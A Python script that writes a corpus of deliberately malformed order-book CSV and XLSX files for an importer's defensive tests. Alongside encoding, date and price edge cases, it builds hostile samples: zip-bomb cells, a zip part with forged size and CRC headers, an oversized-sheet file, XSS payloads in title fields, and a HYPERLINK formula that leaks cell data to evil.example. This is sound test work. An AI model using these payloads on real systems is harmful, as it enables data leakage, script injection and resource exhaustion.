"""Writes the hostile corpus: small bad order books, one problem each (``python tests/hostile/make_corpus.py``).

Big files (a million rows, a 1 MB title) are not kept here: ``tests/test_hostile.py`` generates
them at run time. What each file must do is listed in ``tests/test_hostile.py`` (``CORPUS``).
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
HEADER = "order_id,store,title,price,currency,shipped_at"
GOOD = "8100000000000001,Good Store,USB-C cable,180.00,RUB,2026-02-02"


def text(name: str, content: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(content.encode(encoding))


def one_bad_row(name: str, row: str, header: str = HEADER) -> None:
    text(name, f"{header}\n{GOOD}\n{row}\n")


def workbook(rows: list[list], merge: str | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_saved_values(data: bytes, values: dict[str, str]) -> bytes:
    """The workbook with cached results for its formula cells, as a spreadsheet program saves them."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = content.decode()
                for ref, value in values.items():
                    kind = "" if value.isdigit() else ' t="str"'
                    xml, n = re.subn(
                        rf'<c r="{ref}"([^>]*)>(<f>[^<]*</f>)<v\s*/?>(?:</v>)?',
                        rf'<c r="{ref}"\1{kind}>\2<v>{value}</v>',
                        xml,
                    )
                    assert n == 1, (ref, xml)
                content = xml.encode()
            target.writestr(item, content)
    return out.getvalue()


def with_sheet(data: bytes, sheet: bytes) -> bytes:
    """The workbook with ``xl/worksheets/sheet1.xml`` replaced by ``sheet``, packed as tightly as zip can."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            content = sheet if item.filename == "xl/worksheets/sheet1.xml" else source.read(item.filename)
            target.writestr(item.filename, content)
    return out.getvalue()


def with_lying_size(data: bytes, part: str, declared: int) -> bytes:
    """The archive with ``part``'s headers (local and central) declaring ``declared`` unpacked bytes and the
    CRC of only its first ``declared`` bytes: a reader trusting the headers sees a small, sound part."""
    content = zipfile.ZipFile(io.BytesIO(data)).read(part)
    crc = zlib.crc32(content[:declared])
    out = bytearray(data)
    name = part.encode()
    local = out.index(b"PK\x03\x04")
    while out[local + 30 : local + 30 + len(name)] != name:
        local = out.index(b"PK\x03\x04", local + 4)
    central = out.index(b"PK\x01\x02")
    while out[central + 46 : central + 46 + len(name)] != name:
        central = out.index(b"PK\x01\x02", central + 4)
    for at in (local + 14, central + 16):
        struct.pack_into("<I", out, at, crc)
        struct.pack_into("<I", out, at + 8, declared)
    return bytes(out)


def sheet_xml(rows: str) -> bytes:
    """A worksheet part holding ``rows`` (``<row>`` elements)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        f'2006/main"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def main() -> None:
    for old in HERE.iterdir():
        if old.suffix in (".csv", ".xlsx"):
            old.unlink()
    text("empty.csv", "")
    text("whitespace_only.csv", "   \n\t\n  \r\n")
    text("header_only.csv", HEADER + "\n")
    text(
        "semicolon.csv",
        "order_id;store;title;price;currency;shipped_at\n8100000000000001;Good Store;Case;600,50;RUB;2026-02-02\n",
    )
    text(
        "tab.csv",
        "order_id\tstore\ttitle\tprice\tcurrency\tshipped_at\n"
        "8100000000000001\tGood Store\tCase\t600.50\tRUB\t2026-02-02\n",
    )
    text("utf8_bom.csv", "\ufeff" + HEADER + "\n8100000000000001,Магазин,Чехол для телефона,600.50,RUB,2026-02-02\n")
    text(
        "cp1251_russian_excel.csv",
        "order_id;store;title;price;currency;shipped_at\r\n"
        "8100000000000001;Лучший магазин;Чехол для телефона, синий;600,50;RUB;02.02.2026\r\n"
        "8100000000000002;Товары;Кабель USB-C 2 м;180;RUB;03.02.2026\r\n",
        "cp1251",
    )
    (HERE / "utf16_excel_unicode_text.csv").write_bytes(
        "order_id\ttitle\tprice\tcurrency\r\n8100000000000001\tЧехол\t600,50\tRUB\r\n".encode("utf-16")
    )
    (HERE / "utf16_without_bom.csv").write_bytes((HEADER + "\n" + GOOD + "\n").encode("utf-16-le"))
    one_bad_row("feb30.csv", "8100000000000002,S,Case,10,RUB,2026-02-30")
    one_bad_row("april31.csv", "8100000000000002,S,Case,10,RUB,31.04.2026")
    one_bad_row("ambiguous_day_month.csv", "8100000000000002,S,Case,10,RUB,03/04/2026")
    one_bad_row("two_digit_year.csv", "8100000000000002,S,Case,10,RUB,03.04.26")
    one_bad_row("far_future.csv", "8100000000000002,S,Case,10,RUB,9999-12-31")
    one_bad_row("negative_price.csv", "8100000000000002,S,Case,-5,RUB,2026-02-02")
    one_bad_row("non_numeric_price.csv", "8100000000000002,S,Case,ten roubles,RUB,2026-02-02")
    one_bad_row("thousands_separator.csv", '8100000000000002,S,Case,"1,234.50",RUB,2026-02-02')
    one_bad_row("thousands_space.csv", "8100000000000002,S,Case,1\u00a0234,50,RUB,2026-02-02".replace(",50", ".50"))
    one_bad_row("unknown_currency.csv", "8100000000000002,S,Case,10,RUR,2026-02-02")
    one_bad_row("duplicate_order_id.csv", GOOD)
    text("duplicate_header.csv", "order_id,title,price,title\n8100000000000001,Case,10,Other\n")
    text("missing_order_id.csv", "id,title,price,currency\n8100000000000001,Case,10,RUB\n")
    one_bad_row("control_characters.csv", "8100000000000002,S,Ca\x07se \x1b[2J\x08,10,RUB,2026-02-02")
    one_bad_row("nul_bytes.csv", "8100000000000002,S,Ca\x00se,10,RUB,2026-02-02")
    text(
        "unbalanced_quote.csv",
        f'{HEADER}\n{GOOD}\n8100000000000002,S,"Case 5,10,RUB,2026-02-02\n8100000000000003,S,x,1,RUB,2026-02-02\n',
    )
    one_bad_row("ragged_too_many.csv", "8100000000000002,S,Case,10,RUB,2026-02-02,extra")
    one_bad_row("ragged_too_few.csv", "8100000000000002,S,Case,10")
    (HERE / "binary_garbage.csv").write_bytes(bytes((i * 131 + 7) % 256 for i in range(512)))
    text("really_csv.xlsx", HEADER + "\n" + GOOD + "\n")
    (HERE / "corrupt.xlsx").write_bytes(b"PK\x03\x04" + bytes((i * 37) % 256 for i in range(300)))
    formulas = [
        ["order_id", "store", "title", "price", "currency"],
        ["8100000000000001", "Merged Store", '=HYPERLINK("http://x","y")', "=100+80", "RUB"],
        ["8100000000000002", None, "Cable", 50, "RUB"],
    ]
    (HERE / "formulas_unsaved.xlsx").write_bytes(workbook(formulas, merge="B2:B3"))
    (HERE / "formulas_saved_merged.xlsx").write_bytes(
        with_saved_values(workbook(formulas, merge="B2:B3"), {"C2": "y", "D2": "180"})
    )
    # A zip bomb: 8 KB that would unpack to an 8 MB cell (a 1.5 MB file became a 1.5 GB cell).
    header = '<row r="1"><c r="A1" t="inlineStr"><is><t>order_id</t></is></c><c r="B1" t="inlineStr"><is><t>title</t>'
    bomb = header + '</is></c></row><row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>'
    (HERE / "zip_bomb_cell.xlsx").write_bytes(
        with_sheet(workbook([["order_id"]]), sheet_xml(bomb + "A" * 8_000_000 + "</t></is></c></row>"))
    )
    # A part whose headers lie: declared 100 KB (under every limit, CRC of those bytes), it unpacks to 10 MB.
    lying = with_sheet(workbook([["order_id"]]), sheet_xml(bomb + "A" * 10_000_000 + "</t></is></c></row>"))
    (HERE / "lying_size.xlsx").write_bytes(with_lying_size(lying, "xl/worksheets/sheet1.xml", 100_000))
    # A row beyond the most Excel holds (1,048,576): refused as it is reached, not after 20M rows.
    far = header + '</is></c></row><row r="1048577"><c r="A1048577"><v>1</v></c></row>'
    (HERE / "row_beyond_excel.xlsx").write_bytes(with_sheet(workbook([["order_id"]]), sheet_xml(far)))
    # Two cells at opposite corners of the largest sheet: 400 bytes that a dense reader would make a table of
    # 17 billion cells (the process aborts); refused from the scan of the sheet's bytes.
    corner = header + '</is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    (HERE / "far_corner.xlsx").write_bytes(with_sheet(workbook([["order_id"]]), sheet_xml(corner)))
    one_bad_row(
        "hyperlink_formula.csv",
        '8100000000000002,S,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",10,RUB,2026-02-02',
    )
    text(
        "html_script_titles.csv",
        f"{HEADER}\n"
        "8100000000000001,<b>Store</b>,<script>alert(1)</script>,10,RUB,2026-02-02\n"
        '8100000000000002,"<img src=x onerror=alert(1)>","""><svg onload=alert(1)>",10,RUB,2026-02-02\n',
    )
    text("emoji_rtl.csv", f"{HEADER}\n8100000000000001,متجر \u202eabc,📦 Чехол 🇷🇺 שלום עולם,10,RUB,2026-02-02\n")
    text("events_out_of_order.csv", "order_id,shipped_at,received_at\n8100000000000001,2026-02-10,2026-02-01\n")


if __name__ == "__main__":
    main()
